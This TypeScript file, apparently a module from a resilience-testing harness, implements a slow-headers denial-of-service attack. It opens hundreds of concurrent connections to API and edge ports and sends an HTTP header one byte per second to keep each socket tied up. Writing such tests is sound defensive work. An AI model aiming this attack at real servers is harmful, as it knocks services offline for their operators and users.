/** Connections whose headers come at a byte a second. */
import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack } from '../attack.ts'
import { open } from '../send.ts'
import { flood } from '../tally.ts'
import { attackerAddress, inTurn } from '../target.ts'

export const slowHeaders: Attack = {
  name: 'headers of a byte a second',
  prepare({ apiPorts, edges }) {
    const ports = [...apiPorts, ...edges.map(({ port }) => port)]
    return (signal) =>
      flood({ atOnce: 600, pauseMs: 200, signal }, async (index) => {
        const socket = await open(inTurn(ports, index), attackerAddress(index), signal)
        socket.resume().write('GET / HTTP/1.1\r\nHost: a.example.com\r\nX-Slow: ')
        while (!socket.destroyed) {
          await sleep(1_000, undefined, { signal })
          socket.write('x')
        }
        return 'ended'
      })
  },
}
